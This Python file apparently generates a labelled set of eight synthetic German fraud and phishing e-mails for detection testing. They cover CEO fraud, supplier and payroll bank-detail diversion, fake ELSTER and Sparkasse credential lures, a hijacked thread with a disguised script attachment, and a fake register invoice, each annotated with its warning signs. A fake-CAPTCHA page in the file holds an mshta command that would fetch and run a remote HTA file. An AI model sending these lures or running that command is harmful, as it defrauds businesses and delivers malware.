"""Attack messages, German (01-08)."""
import systems as S
import facts as FX
from kit import (compose, alt, mixed, text_to_html, quote_block, html_escape, make, Text, Att, Multi,
                 st, co, pdf_att, zip_att, qr_png, png_att, hexid, alnum)

LANG = "de"

# ------------------------------------------------------------ attacker infrastructure
GMAIL_CEO = S.Gmail(host="mail-ej1-f53.google.com", ip="209.85.218.53", zone="DE")
PRIVATEEMAIL = S.SMTPHost("privateemail", S.OutlookSMTP(lang="de"), "mta-08.privateemail.com",
                          "198.54.127.58", rdns="mta-08-3.privateemail.com", helo="MTA-08-3.privateemail.com",
                          user_ip="102.88.34.117", lan="192.168.0.102", host_zone="ET")
SENDGRID = S.SendGrid(rdns="wfbtzhsv.outbound-mail.sendgrid.net", ip="149.72.171.66")
WP_HACKED = S.SMTPHost("exim-local", S.PHPMailer("physio-lindenhof.de", version="6.9.1"),
                       "vs2418.webspace-host.de", "176.9.112.86", helo="vs2418.webspace-host.de",
                       local_user="physiol3", delay=6)
HANSEN_WEBMAIL = S.SMTPHost("postfix", S.Roundcube(domain="landtechnik-hansen.de", version="1.6.6"),
                            "dd45120.kasserver.com", "85.13.152.77", user_ip="45.134.142.77",
                            webmail="webmail.all-inkl.com")
CONTABO = S.SMTPHost("postfix", S.Thunderbird(lang="de-DE"), "mail.trakmaster-export.com", "161.97.139.52",
                     rdns="vmi2287415.contaboserver.net", user_ip="78.186.44.12", zone="TR", host_zone="DE")
OUTLOOK_COM = S.OutlookCom(host="AM9P195MB1478", region="EURP195", lang="de-DE")
MAILGUN = S.Mailgun(rdns="m47-110.mailgun.net", ip="159.135.47.110", mgdomain="mg.dfhv-verzeichnis.de")


def a01():
    text = """Hallo Sabine,

bist du heute Nachmittag im Büro? Ich sitze bis ca. 16 Uhr in Verhandlungen und bin nur per Mail erreichbar, das Handy bleibt aus.

Es geht um die Übernahme, über die wir im Sommer kurz gesprochen hatten. Der Notartermin wurde vorgezogen und wir müssen heute noch eine Sicherheitsleistung anweisen, sonst verlieren wir die Exklusivität. Dr. Markus Brenner von der begleitenden Kanzlei meldet sich in den nächsten Minuten bei dir und schickt dir Kontodaten und Schreiben.

Bitte behandle das streng vertraulich – auch intern bitte noch nicht mit Thomas oder Frank darüber sprechen, wir stehen auf der Insiderliste. Ich informiere die Geschäftsleitung am Montag selbst.

Kannst du mir kurz sagen, bis wann heute Auslandsüberweisungen noch rausgehen?

Danke dir
Matthias

Von meinem iPhone gesendet"""
    html = '<div dir="auto">' + "<br>".join(html_escape(x) for x in text.split("\n")) + "</div>\n"
    c = compose(GMAIL_CEO, key="a-de-01", frm=("Matthias Köhler", "m.koehler.gf@gmail.com"),
                to=[st("cfo")], subject="Vertraulich", when="2026-10-15 13:42:09",
                body=lambda b: alt(b, text, html, "UTF-8"))
    return make(LANG, "ceo-fraud-vertraulich", c,
                "CEO fraud opener: 'Matthias Köhler' asks the CFO whether she can release a same-day foreign transfer for a secret acquisition; a 'lawyer' will follow up.",
                "Gmail address under the CEO's display name, secrecy against named colleagues, urgency, unreachable by phone, announces a third-party 'lawyer' - classic BEC first contact.")


def a02():
    text = """Sehr geehrte Frau Becker,

im Zuge der Zusammenführung des Zahlungsverkehrs in unserer Unternehmensgruppe haben wir unsere Hausbank gewechselt. Unsere bisherige Verbindung bei der Sparkasse Gütersloh-Rietberg-Versmold wird zum 31.10.2026 aufgelöst; Zahlungseingänge auf dieses Konto können ab sofort nicht mehr zugeordnet werden und gehen an den Auftraggeber zurück.

Bitte hinterlegen Sie in Ihrem Kreditorenstamm ab sofort folgende Bankverbindung:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: %s

Die Bestätigung unserer Geschäftsführung finden Sie im Anhang.

Derzeit sind folgende Rechnungen fällig bzw. überfällig:

RE-2026-10877 vom 17.09.2026    18.740,20 EUR
RE-2026-10931 vom 24.09.2026     6.212,75 EUR
RE-2026-11002 vom 01.10.2026     9.389,10 EUR

Wir bitten um Ausgleich bis spätestens Freitag, 23.10.2026, auf die oben genannte neue Verbindung, damit die Auslieferung Ihrer Bestellung 4500018911 (Gelenkwellen und Hydraulikzylinder) nicht verzögert wird.

Eine kurze Bestätigung per E-Mail genügt. Telefonisch bin ich diese Woche wegen der Umstellung unserer Telefonanlage leider nur eingeschränkt erreichbar.

Mit freundlichen Grüßen

Petra Lang
Key Account Management
Lieferant GmbH
Carl-Bertelsmann-Str. 112 · 33332 Gütersloh
Tel. +49 5241 9870-214
p.lang@lieferant-gmbh.de""" % (FX.F(FX.LG_IBAN_FRAUD), FX.LG_BIC_FRAUD)
    letter = """Lieferant GmbH · Carl-Bertelsmann-Str. 112 · 33332 Gütersloh

Example Agrartechnik GmbH
Kreditorenbuchhaltung
Münchner Straße 28
30855 Langenhagen

Gütersloh, 19.10.2026

Bestätigung der Bankverbindung

Sehr geehrte Damen und Herren,

hiermit bestätigen wir, dass Zahlungen an die Lieferant GmbH mit sofortiger Wirkung ausschließlich auf folgendes Konto zu leisten sind:

Kontoinhaber: Lieferant GmbH
Kreditinstitut: N26 Bank SE, Berlin
IBAN: %s
BIC: %s

Die bisherige Bankverbindung ist ab dem 31.10.2026 nicht mehr gültig.

Mit freundlichen Grüßen

Michael Brandes
Geschäftsführer

Lieferant GmbH · %s · USt-IdNr. %s""" % (FX.F(FX.LG_IBAN_FRAUD), FX.LG_BIC_FRAUD, FX.LG_HRB, FX.LG_VAT)
    pdfa = pdf_att("Bankverbindung_Lieferant_GmbH.pdf", letter, "Microsoft: Print To PDF",
                   "2026-10-19 17:02:11", title="Bankverbindung", author="")
    c = compose(PRIVATEEMAIL, key="a-de-02", frm=("Petra Lang", "p.lang@lieferant-gmbh.com"),
                to=[st("ap")], cc=[("Stefan Maier", "s.maier@lieferant-gmbh.com")],
                subject="Neue Bankverbindung / offene Posten Kd.-Nr. 40117", when="2026-10-20 09:12:40",
                date_zone="DE",
                body=lambda b: mixed(b, alt(b, text, text_to_html(text, "outlook", "DE", "windows-1252"), "windows-1252", idx=1), [pdfa], idx=0))
    return make(LANG, "lieferant-bankwechsel-lookalike", c,
                "Supplier bank-detail change: 'Petra Lang' of Lieferant GmbH announces a new account at N26 and asks for three open invoices to be paid there by Friday; PDF 'confirmation' from the managing director.",
                "Look-alike domain lieferant-gmbh.com (real: .de; the signature even shows .de), sent through Namecheap Private Email from a Nigerian mobile IP, new account at a neobank, deadline tied to a pending delivery, asks for e-mail confirmation only and discourages phone calls; PDF printed via 'Print To PDF'.")


def a03():
    link = "https://u48213907.ct.sendgrid.net/ls/click?upn=u001." + alnum("a-de-03-upn", 180, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") + "-2B" + alnum("a-de-03-upn2", 40)
    text = """Sehr geehrte Damen und Herren,

das ELSTER-Organisationszertifikat für

Example Agrartechnik GmbH
Steuernummer %s
Zertifikatsinhaberin: Sabine Wörner

läuft am 16.11.2026 ab. Nach Ablauf können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr über dieses Benutzerkonto übermittelt werden. Verspätet abgegebene Anmeldungen können einen Verspätungszuschlag nach § 152 AO nach sich ziehen.

Bitte verlängern Sie das Zertifikat rechtzeitig. Halten Sie dazu Ihre aktuelle Zertifikatsdatei (.pfx) und das zugehörige Passwort bereit.

Zertifikat jetzt verlängern:
%s

Die Verlängerung dauert etwa drei Minuten; das neue Zertifikat steht unmittelbar danach zum Download bereit.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Dies ist eine automatisch erstellte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.""" % (FX.EG_STNR, link)
    html = """<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>ELSTER</title></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif;color:#1d1d1b">
<table width="100%%" cellpadding="0" cellspacing="0" role="presentation"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;margin:24px 0">
<tr><td style="background:#004a80;padding:18px 28px;color:#ffffff;font-size:22px;font-weight:bold">ELSTER <span style="font-weight:normal;font-size:14px">Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:28px;font-size:14px;line-height:21px">
<p>Sehr geehrte Damen und Herren,</p>
<p>das <b>ELSTER-Organisationszertifikat</b> f&uuml;r</p>
<p style="background:#f3f6f9;padding:12px 16px;border-left:4px solid #004a80">Example Agrartechnik GmbH<br>Steuernummer %s<br>Zertifikatsinhaberin: Sabine W&ouml;rner</p>
<p>l&auml;uft am <b>16.11.2026</b> ab. Nach Ablauf k&ouml;nnen Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr &uuml;ber dieses Benutzerkonto &uuml;bermittelt werden. Versp&auml;tet abgegebene Anmeldungen k&ouml;nnen einen Versp&auml;tungszuschlag nach &sect; 152 AO nach sich ziehen.</p>
<p>Bitte verl&auml;ngern Sie das Zertifikat rechtzeitig. Halten Sie dazu Ihre aktuelle Zertifikatsdatei (.pfx) und das zugeh&ouml;rige Passwort bereit.</p>
<p style="text-align:center;margin:28px 0"><a href="%s" style="background:#004a80;color:#ffffff;text-decoration:none;padding:12px 26px;border-radius:3px;font-weight:bold">Zertifikat jetzt verl&auml;ngern</a></p>
<p>Die Verl&auml;ngerung dauert etwa drei Minuten; das neue Zertifikat steht unmittelbar danach zum Download bereit.</p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihr ELSTER-Team</p>
</td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#6b6b6b;border-top:1px solid #dde3e8">Dies ist eine automatisch erstellte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.</td></tr>
</table></td></tr></table>
<img src="https://u48213907.ct.sendgrid.net/wf/open?upn=u001.%s" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important">
</body></html>""" % (FX.EG_STNR, link, alnum("a-de-03-open", 120))
    c = compose(SENDGRID, key="a-de-03", frm=("ELSTER - Ihr Online-Finanzamt", "benachrichtigung@elster-kundenservice.de"),
                to=[st("cfo")], subject="Ihr ELSTER-Organisationszertifikat läuft am 16.11.2026 ab",
                when="2026-11-09 06:31:17", env_from="bounces+48213907-5f2a-sabine.woerner=example.com@em4471.elster-kundenservice.de",
                body=lambda b: alt(b, text, html, "utf-8"))
    return make(LANG, "elster-zertifikat-phish", c,
                "Tax-office credential phishing: 'ELSTER' warns that the company's organisation certificate expires and asks the CFO to 'renew' it, with certificate file and password at hand.",
                "ELSTER does not e-mail renewal links and never asks for the .pfx file and its password; sender domain elster-kundenservice.de is not elster.de; link hidden behind SendGrid click tracking of a bulk account; deadline and late-filing surcharge threat.")


def a04():
    url = "https://s-firmenkunden-legitimation.de/hannover/pushtan?vid=HK7Q2M9&k=" + hexid("a-de-04", 10)
    iban = FX.EG_DE_IBAN
    masked = "%s %s %s **** **** %s" % (iban[:4], iban[4:8], iban[8:12], iban[-2:])
    text = """Sehr geehrte Kundin, sehr geehrter Kunde,

zum 01.12.2026 stellt die Sparkasse Hannover die Freigabe von Sammelaufträgen und EBICS-Zahlungen im Firmenkundenportal vollständig auf das S-pushTAN-Verfahren mit Gerätebindung um.

Für Ihr Firmenkonto %s ist die erneute Gerätebindung noch nicht erfolgt.

So gehen Sie vor:
1. Scannen Sie den QR-Code mit der Kamera Ihres Smartphones.
2. Melden Sie sich mit Ihrem Anmeldenamen bzw. Ihrer Legitimations-ID an.
3. Bestätigen Sie die Gerätebindung in der S-pushTAN-App.

Bitte schließen Sie die Bestätigung bis zum 25.11.2026 ab. Danach werden Überweisungen aus Sicherheitsgründen nur noch eingeschränkt ausgeführt.

Aus Sicherheitsgründen ist die Bestätigung ausschließlich über ein mobiles Endgerät möglich.

Mit freundlichen Grüßen
Ihre Sparkasse Hannover
Firmenkundenservice""" % masked
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#000">
<div style="border-top:6px solid #ff0000;max-width:620px;padding:20px">
<p style="font-size:20px;color:#ff0000;font-weight:bold;margin:0 0 16px">Sparkasse Hannover</p>
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>zum 01.12.2026 stellt die Sparkasse Hannover die Freigabe von Sammelauftr&auml;gen und EBICS-Zahlungen im Firmenkundenportal vollst&auml;ndig auf das S-pushTAN-Verfahren mit Ger&auml;tebindung um.</p>
<p>F&uuml;r Ihr Firmenkonto <b>%s</b> ist die erneute Ger&auml;tebindung noch nicht erfolgt.</p>
<ol><li>Scannen Sie den QR-Code mit der Kamera Ihres Smartphones.</li><li>Melden Sie sich mit Ihrem Anmeldenamen bzw. Ihrer Legitimations-ID an.</li><li>Best&auml;tigen Sie die Ger&auml;tebindung in der S-pushTAN-App.</li></ol>
<p style="text-align:center"><img src="cid:qr-%s@physio-lindenhof.de" width="198" height="198" alt="QR-Code"></p>
<p>Bitte schlie&szlig;en Sie die Best&auml;tigung bis zum <b>25.11.2026</b> ab. Danach werden &Uuml;berweisungen aus Sicherheitsgr&uuml;nden nur noch eingeschr&auml;nkt ausgef&uuml;hrt.</p>
<p style="font-size:12px;color:#555">Aus Sicherheitsgr&uuml;nden ist die Best&auml;tigung ausschlie&szlig;lich &uuml;ber ein mobiles Endger&auml;t m&ouml;glich.</p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihre Sparkasse Hannover<br>Firmenkundenservice</p>
</div></body></html>""" % (masked, hexid("a-de-04cid", 12))
    cid = "qr-%s@physio-lindenhof.de" % hexid("a-de-04cid", 12)
    png = png_att("pushtan.png", qr_png(url), cid=cid, inline=True)

    def body(b):
        a = Multi("alternative", [Text(text, "plain", "utf-8", "8bit"), Text(html, "html", "utf-8", "8bit")], b(1))
        return Multi("related", [a, png], b(0), params='; type="multipart/alternative"')
    c = compose(WP_HACKED, key="a-de-04", frm=("Sparkasse Hannover Firmenkundenservice", "service@physio-lindenhof.de"),
                to=[st("ar")], subject="Wichtig: Bestätigung Ihres S-pushTAN-Verfahrens für Firmenkonten bis 25.11.2026",
                when="2026-11-18 06:54:03", env_from="physiol3@vs2418.webspace-host.de", body=body)
    it = make(LANG, "sparkasse-pushtan-quishing", c,
              "Bank quishing: 'Sparkasse Hannover' demands re-binding of the pushTAN device for the company account via a QR code (inline PNG) before transfers are restricted.",
              "Sent by PHPMailer from a compromised physiotherapy practice's WordPress host; the QR code leads to s-firmenkunden-legitimation.de, not sparkasse-hannover.de; QR-only, 'mobile device only' to evade URL scanning; deadline and restriction threat; partial IBAN to look authentic.")
    it.expect_qr = url
    return it


HANSEN_PREV_ID, HANSEN_FIRST_ID = FX.HANSEN_PREV_ID, FX.HANSEN_FIRST_ID


def a05():
    quoted = """Hallo Herr Hansen,

vielen Dank für die Bestellung. Die Positionen 1-4 (Mähwerkmesser, Messerhalter, Gleitkufen) sind ab Lager Langenhagen verfügbar und gehen morgen mit Spedition Weber raus. Die Kegelradgetriebe (Pos. 5) kommen aus Japan, Liefertermin voraussichtlich KW 46.

Die Auftragsbestätigung schicke ich Ihnen heute Nachmittag.

Viele Grüße
Dennis Wagner
Ersatzteilvertrieb & Service
Example Agrartechnik GmbH"""
    text = """Moin Dennis,

anbei wie besprochen die aktualisierte Bestellung inkl. der zusätzlichen Positionen sowie unser Zahlungsavis für die offenen Rechnungen.

Die Datei ist wegen der Bankdaten passwortgeschützt, Passwort: LH2026

Bitte kurz prüfen und Bestätigung schicken.

Gruß
Ole Hansen

Am 29.10.2026 11:04, schrieb Dennis Wagner:
""" + quote_block(quoted)
    z = zip_att("Bestellung_KW44_Hansen.zip", ["Bestellung_KW44_Hansen.pdf.js"], "2026-11-03 16:20:44", password="LH2026")
    c = compose(HANSEN_WEBMAIL, key="a-de-05", frm=co("hansen"), to=[st("parts")],
                subject="Re: AW: Ersatzteilbestellung KW 44 - Mähwerk Hokuto DM 3200", when="2026-11-03 16:27:51",
                irt=HANSEN_PREV_ID, refs=[HANSEN_FIRST_ID, HANSEN_PREV_ID],
                body=lambda b: Multi("mixed", [Text(text, "plain", "UTF-8", "quoted-printable", params="; format=flowed"), z], b(0)))
    return make(LANG, "hansen-thread-hijack-zip", c,
                "Thread hijack from the genuinely compromised mailbox of dealer Landtechnik Hansen: reply in a real spare-parts thread with a password-protected ZIP 'order and payment advice' (member Bestellung_KW44_Hansen.pdf.js, ZipCrypto, password LH2026).",
                "Real dealer domain and thread, but sent from the hoster's webmail via a VPN/hosting IP instead of Mr Hansen's Outlook, tone and signature differ from his usual mails, encrypted archive defeats scanning and contains a script disguised as PDF (.pdf.js).")


def a06():
    text = """Sehr geehrter Herr Müller,

anbei die aktualisierte Proforma-Rechnung PI-26-1187 für die 12 Scheibeneggen TDH-300 sowie die Versandpapiere (Packliste, Entwurf der A.TR-Warenverkehrsbescheinigung).

Die Dokumente liegen aus Sicherheitsgründen in unserem Dokumentenportal. Bitte öffnen Sie die HTML-Datei im Anhang in Ihrem Browser und bestätigen Sie kurz den Sicherheitscheck.

Wir benötigen Ihre Bestätigung bis morgen 12:00 Uhr, damit der LKW wie geplant am Freitag in Bursa verladen werden kann.

Mit freundlichen Grüßen

Emre Yıldız
Export Sales – DACH
Trakmaster Tarım Makinaları A.Ş.
Nilüfer Organize Sanayi Bölgesi, Bursa / Türkiye
Tel. +90 224 411 38 72"""
    cmd = "mshta http://203.0.113.77/pi-26-1187.hta   # I am not a robot - Cloudflare Ray ID: 8f3a1c77e2b4d901"
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Trakmaster Dokumentenportal - PI-26-1187</title>
<style>body{font-family:-apple-system,Segoe UI,Roboto,Arial,sans-serif;background:#f6f6f6;margin:0}
.box{max-width:520px;margin:80px auto;background:#fff;border:1px solid #ddd;border-radius:6px;padding:28px}
.cf{display:flex;align-items:center;gap:12px;border:1px solid #d9d9d9;padding:14px;border-radius:4px;background:#fafafa}
.cb{width:26px;height:26px;border:2px solid #888;border-radius:3px}
.steps{display:none;margin-top:18px;background:#fffbe6;border:1px solid #f0d36b;padding:14px;border-radius:4px}
kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 5px}</style></head>
<body><div class="box">
<h2 style="margin-top:0">Trakmaster Dokumentenportal</h2>
<p>Dokument: <b>PI-26-1187_Proforma_Versandpapiere.pdf</b> (3 Seiten, 412 KB)</p>
<p>Bevor das Dokument angezeigt wird, muss &uuml;berpr&uuml;ft werden, ob die Verbindung sicher ist.</p>
<div class="cf" id="check"><div class="cb"></div><span>Ich bin kein Roboter</span><span style="margin-left:auto;font-size:11px;color:#888">Cloudflare<br>Datenschutz - Bedingungen</span></div>
<div class="steps" id="steps" style="display:block">
<p><b>Verifizierungsschritte</b></p>
<ol><li>Dr&uuml;cken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Dr&uuml;cken Sie <kbd>Strg</kbd> + <kbd>V</kbd></li>
<li>Dr&uuml;cken Sie <kbd>Enter</kbd></li></ol>
<p style="font-size:12px;color:#666">Die Verifizierung wird automatisch abgeschlossen und das Dokument ge&ouml;ffnet.</p></div>
</div>
<script type="text/plain" id="cf-verify">
document.getElementById('check').addEventListener('click', function () {
  navigator.clipboard.writeText("%s");
  document.getElementById('steps').style.display = 'block';
});
</script>
</body></html>
""" % cmd
    att = Att(page.encode("utf-8"), "text/html", "PI-26-1187_Trakmaster_Dokumente.html", charset="utf-8")

    def body(b):
        return Multi("mixed", [Text(text, "plain", "UTF-8", "8bit"), att], b(0))
    c = compose(CONTABO, key="a-de-06", frm=("Emre Yıldız", "e.yildiz@trakmaster-export.com"), to=[st("proc")],
                subject="Proforma PI-26-1187 / Versandpapiere Scheibeneggen TDH-300 – bitte bestätigen",
                when="2026-11-11 10:18:26", date_zone="TR", body=body)
    return make(LANG, "trakmaster-clickfix-html", c,
                "ClickFix lure: 'Trakmaster export sales' sends a proforma/shipping-papers HTML page that shows a fake Cloudflare check telling the user to press Win+R, Ctrl+V, Enter (the page would put an mshta command on the clipboard).",
                "Look-alike of the Turkish principal (trakmaster-export.com on a Contabo VPS), HTML attachment instead of PDF, 'paste into Run dialog' instructions are ClickFix; the clipboard script is present only as inert text/plain and points to a TEST-NET address.")


def a07():
    text = """Hallo Claudia,

kurze Bitte: ich habe mein Girokonto gewechselt und möchte, dass mein Gehalt ab der November-Abrechnung auf das neue Konto überwiesen wird:

Kontoinhaberin: Katrin Vogel
IBAN: %s
BIC: REVOLT21

Das alte Konto bei der Postbank löse ich zum Monatsende auf.

Ich bin die ganze Woche bei Kunden im Emsland unterwegs und komme mit dem Laptop nicht ins VPN, deshalb schreibe ich dir von meiner privaten Adresse. Schaffst du das noch vor dem Abrechnungslauf? Eine kurze Rückmeldung hier wäre super.

Danke und viele Grüße
Katrin""" % FX.F(FX.PAYROLL_FRAUD)
    c = compose(OUTLOOK_COM, key="a-de-07", frm=("Katrin Vogel", "katrin.vogel.hh@outlook.de"), to=[st("hr")],
                subject="Neue Bankverbindung für meine Gehaltszahlung", when="2026-11-16 07:48:12",
                body=lambda b: alt(b, text, text_to_html(text, "outlook", "DE", "iso-8859-1"), "iso-8859-1"))
    return make(LANG, "gehaltskonto-umleitung", c,
                "Payroll diversion: 'Katrin Vogel' (sales) asks HR from an outlook.de address to pay her salary to a new Revolut (LT) account before the November payroll run.",
                "Not the employee's known private address (she writes from katrin.vogel84@web.de, see business 05), new account at an e-money bank where the holder name is not checked, excuse for not using company systems, timed before payroll and asks for confirmation by reply only.")


def a08():
    text = """Sehr geehrte Damen und Herren,

anbei erhalten Sie die Unterlagen zur Eintragung Ihres Unternehmens

Example Agrartechnik GmbH
Münchner Straße 28, 30855 Langenhagen
%s

in das Deutsche Firmen- und Handelsverzeichnis (Ausgabe 2027).

Zahlungsbetrag: 1.367,31 EUR (1.149,00 EUR zzgl. 19 %% USt.)
Fällig: 14.12.2026
Verwendungszweck: DFHV-2026-118347

Bitte überweisen Sie den Betrag fristgerecht, damit Ihr Eintrag mit Registerdaten, Branchenzuordnung (Großhandel mit landwirtschaftlichen Maschinen, WZ 46.61) und Kontaktdaten veröffentlicht werden kann.

Mit freundlichen Grüßen

DFHV Datenservice
Abteilung Registerverwaltung
""" % FX.EG_HRB
    form = """DFHV - Deutsches Firmen- und Handelsverzeichnis
Datenservice und Registerverwaltung

Zahlungsaufforderung / Eintragungsofferte Nr. DFHV-2026-118347

Firma: Example Agrartechnik GmbH
Anschrift: Münchner Straße 28, 30855 Langenhagen
Register: %s
Branche: Großhandel mit landwirtschaftlichen Maschinen (WZ 46.61)

Leistung: Eintragung Ausgabe 2027 (Online und Datenträger)
Jahresbetrag netto: 1.149,00 EUR
USt. 19 %%: 218,31 EUR
Zahlbetrag: 1.367,31 EUR
Fällig: 14.12.2026

Empfänger: DFHV Datenservice
IBAN: %s
BIC: BSABESBBXXX
Verwendungszweck: DFHV-2026-118347

Hinweis: Dieses Schreiben ist ein Angebot. Mit Zahlung des Betrages erteilen Sie den Auftrag zur Eintragung in das private Verzeichnis DFHV für eine Laufzeit von drei Jahren zum oben genannten Jahrespreis. Es besteht keine Verbindung zum amtlichen Handelsregister oder zum Unternehmensregister. Gerichtsstand ist Madrid.""" % (FX.EG_HRB, FX.F(FX.DFHV_IBAN))
    p = pdf_att("Zahlungsaufforderung_DFHV-2026-118347.pdf", form, "iText 2.1.7 by 1T3XT", "2026-12-01 09:58:00",
                title="Zahlungsaufforderung", size=9)
    c = compose(MAILGUN, key="a-de-08", frm=("DFHV Datenservice", "rechnung@dfhv-verzeichnis.de"), to=[st("ap")],
                subject="Zahlungsaufforderung DFHV-2026-118347 - Eintragung Example Agrartechnik GmbH",
                when="2026-12-01 09:05:33", env_from="bounce+8e1f2a.4c7b1-anna.becker=example.com@mg.dfhv-verzeichnis.de",
                body=lambda b: Multi("mixed", [Text(text, "plain", "iso-8859-1", "quoted-printable"), p], b(0)))
    return make(LANG, "register-offerte-rechnung", c,
                "Fake register invoice: 'DFHV Deutsches Firmen- und Handelsverzeichnis' sends a 'payment request' for an entry in a private directory, with a PDF whose small print turns payment into a three-year contract.",
                "Offer dressed as an invoice from an unknown private 'register' with official-sounding name, copied Handelsregister data, payment to a Spanish account, small print disclaiming any link to the official register, bulk Mailgun sending - a known directory-fraud pattern.")


def messages():
    return [a01(), a02(), a03(), a04(), a05(), a06(), a07(), a08()]
